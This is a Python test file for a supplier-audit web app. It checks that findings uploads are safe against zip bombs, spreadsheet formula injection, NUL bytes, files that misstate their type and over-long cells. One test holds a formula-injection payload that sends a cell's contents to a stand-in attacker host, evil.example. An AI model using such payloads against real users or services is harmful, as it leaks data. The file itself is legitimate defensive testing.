"""Hostile findings files go through the shared defences in app/ (app.spreadsheets,
app.uploads): zip bombs, formulas, NUL bytes, files that lie about their type, huge text."""

from __future__ import annotations

import io

import openpyxl
from sqlalchemy import select

from audits.models import Finding
from tests.audits.factories import make_audit, make_auditor
from tests.audits.helpers import auth, upload, write_csv, write_xlsx
from tests.suppliers.files import zip_bomb_xlsx


def test_a_zip_bomb_is_refused_before_parsing(client, db, buyer, tmp_path):
    auditor = make_auditor(db)
    audit = make_audit(db, buyer, auditor=auditor)
    db.commit()
    response = upload(client, auth(client, auditor), audit.id,
                      zip_bomb_xlsx(tmp_path / "bomb.xlsx", expanded_mb=120))
    assert response.status_code in (413, 422), response.json
    assert "zip" in response.json["error"]["message"].lower() \
        or "unzipped" in response.json["error"]["message"]
    assert db.scalar(select(Finding.id).where(Finding.audit_id == audit.id)) is None


def test_formulas_are_kept_as_text_and_neutralised_in_the_template(client, db, buyer, tmp_path):
    auditor = make_auditor(db)
    audit = make_audit(db, buyer, auditor=auditor)
    db.commit()
    headers = auth(client, auditor)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    path = write_csv(tmp_path / "formula.csv", [["X-1", None, evil, "Major", None, None, None,
                                                  None, None, "@SUM(1+1)", None]])
    response = upload(client, headers, audit.id, path)
    assert response.status_code == 200, response.json
    finding = db.scalar(select(Finding).where(Finding.audit_id == audit.id))
    assert finding.description == evil and finding.root_cause == "@SUM(1+1)"
    template = client.get("/api/v1/audits/findings-template.xlsx", headers=headers)
    book = openpyxl.load_workbook(io.BytesIO(template.data))
    cells = [c for row in book["Column guide"].iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)


def test_nul_bytes_and_lying_files(client, db, buyer, tmp_path):
    auditor = make_auditor(db)
    audit = make_audit(db, buyer, auditor=auditor)
    db.commit()
    headers = auth(client, auditor)
    nul = write_csv(tmp_path / "nul.csv", [["N-1", None, "Pass\x00ports held", "Major", None,
                                            None, None, None, None, None, None]])
    # A NUL in a text file marks it binary (app.spreadsheets): refused, nothing written.
    assert upload(client, headers, audit.id, nul).status_code == 415
    assert db.scalar(select(Finding.id).where(Finding.audit_id == audit.id)) is None
    png = tmp_path / "findings.xlsx"
    png.write_bytes(b"\x89PNG\r\n\x1a\n" + b"0" * 100)
    assert upload(client, headers, audit.id, png).status_code == 415
    exe = tmp_path / "findings.exe"
    exe.write_bytes(b"MZ")
    assert upload(client, headers, audit.id, exe).status_code == 415
    api_nul = client.post(f"/api/v1/audits/{audit.id}/findings", headers=headers,
                          json={"description": "a\x00b", "scheme_severity": "Major"})
    assert api_nul.status_code == 422


def test_over_long_cells_are_row_errors_not_server_errors(client, db, buyer, tmp_path):
    auditor = make_auditor(db)
    audit = make_audit(db, buyer, auditor=auditor)
    db.commit()
    rows = [["C" * 500, "K" * 5000, "Passports held", "Major", None, None, None, None,
             None, None, None],
            ["OK-1", None, "Overtime", "Major", None, "12abc", None, None, None, None, None]]
    response = upload(client, auth(client, auditor), audit.id,
                      write_xlsx(tmp_path / "long.xlsx", rows))
    assert response.status_code == 422, response.json
    columns = {d["column"] for d in response.json["error"]["details"]}
    assert {"code", "clause", "workers_affected"} <= columns
    assert db.scalar(select(Finding.id).where(Finding.audit_id == audit.id)) is None
